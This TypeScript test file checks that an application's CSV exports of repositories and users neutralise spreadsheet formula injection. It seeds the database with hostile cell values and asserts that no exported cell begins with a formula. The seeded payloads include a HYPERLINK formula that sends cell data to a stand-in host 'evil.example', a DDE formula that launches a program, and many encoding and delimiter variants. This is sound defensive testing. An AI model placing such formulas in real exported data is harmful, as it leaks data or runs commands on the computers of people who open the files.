import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startUsersServer, type UsersServer } from '#tests/support/users-server.ts';

/** Cells that make spreadsheets calculate, send requests, or start programs. */
const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'x\n=1+1',
  'x;=1+1;y',
  'x; =1+1;y',
  'x\t=1+1',
  'x",=1+1,"',
  '\u202e=1+1',
];

let server: UsersServer;
beforeAll(async () => {
  server = await startUsersServer();
  const { sql } = server.database;
  // Bypasses the validation of input, which would reject some.
  for (const [number, text] of formulas.entries()) {
    await sql`
      insert into repositories (name, link, description)
      values (${`${text} ${number}`}, ${text}, ${`${text} ${number}`})`;
    await server.addUser({ name: text });
  }
});
afterAll(() => server?.stop());

/** Parsed with a comma as intended; with other delimiters as in other locales, where quotation marks do not help. */
function cellsOf(csv: string, delimiter: string): string[] {
  if (delimiter === ',') return (parse(csv, { bom: true }) as string[][]).flat();
  return csv.split(/[\r\n]/).flatMap((line) => line.split(delimiter));
}

describe.each(['/repositories/export', '/users/export'])('in %s', (path) => {
  it.each([',', ';', '\t'])('no cell begins with a formula, with the delimiter %j', async (delimiter) => {
    const { body } = await server.call(server.admin, 'GET', path);
    const cells = cellsOf(body, delimiter);
    expect(cells.filter((cell) => cell.includes('=1+1')).length).toBeGreaterThan(5);
    expect(cells.filter((cell) => /^["\s]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
  });
});
